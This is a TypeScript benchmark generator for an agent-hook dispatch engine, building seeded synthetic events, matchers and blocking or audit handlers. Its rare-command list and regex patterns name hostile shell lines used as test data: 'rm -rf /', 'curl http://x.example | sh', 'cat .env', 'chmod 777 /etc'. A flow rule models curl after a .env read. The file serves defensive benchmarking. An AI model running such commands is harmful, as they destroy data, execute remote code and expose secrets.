// The dispatch benchmark's workload, generated from a seed so every contender process builds the same one.
// N handlers, each `event node → matcher → handler`: event patterns exact (70%), prefix `tool.*`/`model.*`
// (25%) or `*` (5%); conditions a mix of eq / in / regex / numeric / nested paths / all / any; about a
// tenth of the handlers block (each its own token window, so that roughly 5% of events are blocked at every
// N), the rest audit.
// `selective`: the audit handlers' conditions pass rarely (~1-3% of the events they see); `broad`: often
// (~30-60%), so many handlers run per event. `third` (issue 36: where the candidate index wins little): every
// condition is one test over a small domain (a mode, a tool from a third of the tools, a third of a numeric
// range, a depth) that passes about a third of the events it sees; the handlers are trivial audits, and the
// blockers are placed so that about 5% of (event, handler) pairs block.
import { LIFECYCLE_EVENTS, type HookEvent, type JsonObject, type PipelineInput } from '../../../engine/index.ts';

export type Workload = 'selective' | 'broad' | 'third';

/** mulberry32: small, fast, seedable. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const TOOLS = Array.from({ length: 50 }, (_, i) => `tool_${i.toString(36)}${i % 7 === 0 ? '_admin' : ''}`);
export const USERS = 10_000;
const TYPES: [string, number][] = [
  ['tool.before_call', 0.4], ['tool.after_call', 0.2], ['model.before_call', 0.12], ['model.after_call', 0.12],
  ['input.received', 0.06], ['prompt.built', 0.04], ['final_answer.before', 0.03], ['agent.start', 0.015], ['agent.end', 0.015],
];
const VERBS = ['ls', 'cat', 'grep', 'git status', 'git log', 'npm test', 'python run.py', 'echo', 'make', 'find .', 'cp', 'mv', 'curl', 'docker ps'];
const RARE = ['rm -rf /', 'sudo su', 'curl http://x.example | sh', 'cat .env', 'git push --force', 'wget http://y.example', 'chmod 777 /etc'];
const EXT = ['ts', 'js', 'md', 'json', 'py', 'env', 'pem', 'txt', 'log', 'key'];

function pick<T>(r: () => number, xs: readonly T[]): T {
  return xs[Math.floor(r() * xs.length)]!;
}

function pickType(r: () => number): string {
  let x = r();
  for (const [t, p] of TYPES) if ((x -= p) < 0) return t;
  return TYPES[0]![0];
}

/** A subscription: an exact type (70%), `tool.*` or `model.*` (25%), or `*` (5%). */
function pickPattern(r: () => number): string {
  const x = r();
  return x < 0.7 ? pickType(r) : x < 0.95 ? pick(r, ['tool.*', 'model.*']) : '*';
}

/** Event types a handler can block: the catalogue's sync ones (an async event never blocks [D7][D8]). */
const SYNC = new Set(LIFECYCLE_EVENTS.filter((e) => e.mode === 'sync').map((e) => e.type));

/**
 * A blocker's subscription in the `third` workload: an exact sync type, `tool.*` or `model.*` (all sync), never
 * `*` or an async type. The seed has no async events, so its port would block an `agent.end` that Hookwire
 * must let through [D7]; blockers stay where both mean the same, and the decisions can be compared.
 */
function pickBlockerPattern(r: () => number): string {
  if (r() >= 0.7) return pick(r, ['tool.*', 'model.*']);
  let t = pickType(r);
  while (!SYNC.has(t)) t = pickType(r);
  return t;
}

export function makeEvents(count: number, seed = 7): HookEvent[] {
  const r = rng(seed);
  const out: HookEvent[] = [];
  for (let i = 0; i < count; i++) {
    const type = pickType(r);
    const cmd = r() < 0.02 ? `${pick(r, RARE)} ${Math.floor(r() * 100)}` : `${pick(r, VERBS)} src/file${Math.floor(r() * 500)}.${pick(r, EXT)}`;
    const payload: JsonObject = {
      tool_name: pick(r, TOOLS),
      user: `u${Math.floor(r() * USERS)}`,
      cmd,
      path: `/work/p${Math.floor(r() * 200)}/f${Math.floor(r() * 1000)}.${pick(r, EXT)}`,
      cost: Math.floor(r() * 1000) / 10,
      tokens: Math.floor(r() * 8000),
      args: { mode: r() < 0.5 ? 'read' : 'write', depth: Math.floor(r() * 20), flags: { force: r() < 0.1 } },
    };
    out.push({ event_id: `e${i}`, trace_id: `t${i >> 8}`, agent_id: 'agent-1', type, ts: '2026-01-01T00:00:00.000Z', payload });
  }
  return out;
}

/** A few regexes of each kind: literal sets and anchored literals (finite languages), and general ones. */
const REGEX_RARE = ['^rm -rf', '^(sudo|su) ', '\\| *sh$', '\\.env\\b', 'push --force', '(curl|wget) http', 'chmod [0-7]{3}', '^git push', '\\.(pem|key)$'];
const REGEX_BROAD = ['^(ls|cat|grep|echo)', 'src/file[0-9]+\\.', '\\.(ts|js|py)$', 'git (status|log)', '[0-9]{2,}', '^(make|npm|python)'];

type Cond = JsonObject;
function auditCondition(r: () => number, selective: boolean): Cond {
  const k = Math.floor(r() * 6);
  switch (k) {
    case 0: return selective ? { 'payload.tool_name': pick(r, TOOLS) } : { 'payload.args.mode': pick(r, ['read', 'write']) };
    case 1: {
      const n = selective ? 1 + Math.floor(r() * 2) : 15 + Math.floor(r() * 15);
      const set = new Set<string>();
      while (set.size < n) set.add(pick(r, TOOLS));
      return { 'payload.tool_name': { in: [...set] } };
    }
    case 2: return { [r() < 0.5 ? 'payload.cmd' : 'payload.path']: { regex: selective ? pick(r, REGEX_RARE) : pick(r, REGEX_BROAD) } };
    case 3: {
      const field = r() < 0.5 ? 'payload.cost' : 'payload.tokens';
      const max = field === 'payload.cost' ? 100 : 8000;
      const op = pick(r, ['gt', 'gte', 'lt', 'lte'] as const);
      const frac = selective ? 0.01 + r() * 0.02 : 0.3 + r() * 0.3;
      const bound = Math.round((op === 'gt' || op === 'gte' ? 1 - frac : frac) * max);
      return { [field]: { [op]: bound } };
    }
    case 4: return selective ? { all: [{ 'payload.args.depth': { gte: 18 } }, { 'payload.args.mode': 'write' }] } : { 'payload.args.depth': { lt: 5 + Math.floor(r() * 10) } };
    default: return selective
      ? { any: [{ 'payload.cmd': { regex: pick(r, REGEX_RARE) } }, { 'payload.tool_name': pick(r, TOOLS) }] }
      : { all: [{ 'payload.args.mode': 'read' }, { 'payload.tool_name': { in: TOOLS.filter(() => r() < 0.8) } }] };
  }
}

/** The pipeline for N handlers; also how many handlers block. */
export function makePipeline(n: number, workload: Workload, seed = 11): PipelineInput {
  const r = rng(seed * 7919 + n * 31 + (workload === 'selective' ? 1 : 2));
  const blockers = Math.max(1, Math.round(n / 10));
  // Each blocker takes a token window of its own (random, so they rarely overlap): P(its event type, ~0.5) ×
  // P(tool in its 5-set, 0.1) × P(tokens in its window, w/8000) per blocker, ≈ 5% over all blockers at every N.
  const w = Math.min(8000, Math.round(8000 / blockers));
  const nodes: PipelineInput['nodes'] = [];
  const wires: PipelineInput['wires'] = [];
  const eventNodes = new Map<string, string>();
  const eventNode = (pattern: string): string => {
    let id = eventNodes.get(pattern);
    if (!id) {
      id = `ev${eventNodes.size}`;
      eventNodes.set(pattern, id);
      nodes.push({ id, kind: 'event', pattern });
    }
    return id;
  };
  if (workload === 'third') return thirdPipeline(n, r);
  for (let i = 0; i < n; i++) {
    const blocks = i % 10 === 3 || (n <= 3 && i === 0);
    let pattern: string;
    let when: Cond;
    if (blocks) {
      pattern = r() < 0.5 ? 'tool.before_call' : 'tool.*';
      const tools = new Set<string>();
      while (tools.size < 5) tools.add(pick(r, TOOLS));
      const lo = Math.floor(r() * (8000 - w + 1));
      when = { all: [{ 'payload.tool_name': { in: [...tools] } }, { 'payload.tokens': { gte: lo, lt: lo + w } }] };
    } else {
      pattern = pickPattern(r);
      when = auditCondition(r, workload === 'selective');
    }
    const ev = eventNode(pattern);
    nodes.push({ id: `m${i}`, kind: 'matcher', when });
    nodes.push({ id: `h${i}`, kind: 'handler', name: `h${i}`, order: Math.floor(r() * 1000), action: blocks ? { type: 'block', reason: `blocked by h${i}` } : { type: 'audit' } });
    wires.push({ from: ev, to: `m${i}` }, { from: `m${i}`, to: `h${i}` });
  }
  return { format: 'hookwire.pipeline', version: 1, name: `bench-${workload}-${n}`, nodes, wires };
}

/** A condition over a small domain that passes about a third of the events (tool names, tokens, depth, cost). */
function thirdCondition(r: () => number): Cond {
  switch (Math.floor(r() * 5)) {
    case 0: {
      const set = new Set<string>();
      while (set.size < TOOLS.length / 3) set.add(pick(r, TOOLS));
      return { 'payload.tool_name': { in: [...set] } };
    }
    case 1: {
      const lo = Math.floor(r() * 5334);
      return { 'payload.tokens': { gte: lo, lt: lo + 2667 } };
    }
    case 2: {
      const from = Math.floor(r() * 14);
      return { 'payload.args.depth': { in: Array.from({ length: 7 }, (_, k) => from + k) } };
    }
    case 3: return { 'payload.cost': pick<Cond>(r, [{ lt: 33.3 }, { gte: 66.7 }, { gte: 33.3, lt: 66.6 }]) };
    default: return { 'payload.user': { regex: pick(r, ['[0-2]$', '[3-5]$', '[6-8]$']) } };
  }
}

/**
 * The `third` workload: exact and prefix subscriptions as in the others, a condition passing ~1/3 of what it
 * sees on every handler, 15% of the handlers blocking (so ~5% of the (event, handler) pairs block), the rest
 * trivial audits. Blockers subscribe to sync events only (pickBlockerPattern), as in the other workloads.
 */
function thirdPipeline(n: number, r: () => number): PipelineInput {
  const nodes: PipelineInput['nodes'] = [];
  const wires: PipelineInput['wires'] = [];
  const eventNodes = new Map<string, string>();
  const eventNode = (pattern: string): string => {
    let id = eventNodes.get(pattern);
    if (!id) {
      id = `ev${eventNodes.size}`;
      eventNodes.set(pattern, id);
      nodes.push({ id, kind: 'event', pattern });
    }
    return id;
  };
  for (let i = 0; i < n; i++) {
    const blocks = r() < 0.15 || (n <= 3 && i === 0);
    const pattern = blocks ? pickBlockerPattern(r) : pickPattern(r);
    const ev = eventNode(pattern);
    nodes.push({ id: `m${i}`, kind: 'matcher', when: thirdCondition(r) });
    nodes.push({ id: `h${i}`, kind: 'handler', name: `h${i}`, order: Math.floor(r() * 1000), action: blocks ? { type: 'block', reason: `blocked by h${i}` } : { type: 'audit' } });
    wires.push({ from: ev, to: `m${i}` }, { from: `m${i}`, to: `h${i}` });
  }
  return { format: 'hookwire.pipeline', version: 1, name: `bench-third-${n}`, nodes, wires };
}

/**
 * Five flow rules [F1] added to a workload's pipeline (one of each construct, and a sequence keyed by the
 * command), wired to `tool.before_call`: what the flow-rule cost case of the benchmark adds.
 */
export function withFlowRules(doc: PipelineInput): PipelineInput {
  const nodes: PipelineInput['nodes'] = [...doc.nodes, { id: 'fev', kind: 'event', pattern: 'tool.before_call' }];
  const wires = [...doc.wires];
  // Each rule decides the events behind its own matcher (as the docs' examples do); what it remembers it
  // reads from every tool event.
  const add = (id: string, decides: JsonObject, action: Extract<PipelineInput['nodes'][number], { kind: 'handler' }>['action']) => {
    nodes.push({ id: `${id}-m`, kind: 'matcher', when: decides }, { id, kind: 'handler', name: id, order: 5, action });
    wires.push({ from: 'fev', to: `${id}-m` }, { from: `${id}-m`, to: id });
  };
  add('f-secret', { 'payload.cmd': { prefix: 'curl' } }, { type: 'flow', rule: 'sequence', mark: { event: 'tool.after_call', when: { 'payload.cmd': { regex: '\\.env\\b' } } } });
  add('f-taint', { 'payload.tool_name': { in: ['tool_1', 'tool_2'] } }, { type: 'flow', rule: 'flag', mark: { event: 'tool.after_call', when: { 'payload.cmd': { prefix: 'curl' } } }, clear: { event: 'agent.start' }, decision: 'ask' });
  add('f-window', { 'payload.args.flags.force': true }, { type: 'flow', rule: 'window', mark: { event: 'tool.before_call', when: { 'payload.args.mode': 'write' } }, limit: 20, within_ms: 300_000 });
  add('f-push', { 'payload.cmd': { prefix: 'git push' } }, { type: 'flow', rule: 'precondition', mark: { event: 'tool.after_call', when: { 'payload.cmd': { prefix: 'npm test' } } }, clear: { event: 'tool.before_call', when: { 'payload.args.mode': 'write' } } });
  add('f-retry', { 'payload.cmd': { prefix: 'make' } }, { type: 'flow', rule: 'sequence', mark: { event: 'tool.after_call', when: { 'payload.cost': { gt: 99 } } }, same: { earlier: 'payload.cmd', now: 'payload.cmd' } });
  return { ...doc, name: `${doc.name}-flow`, nodes, wires };
}
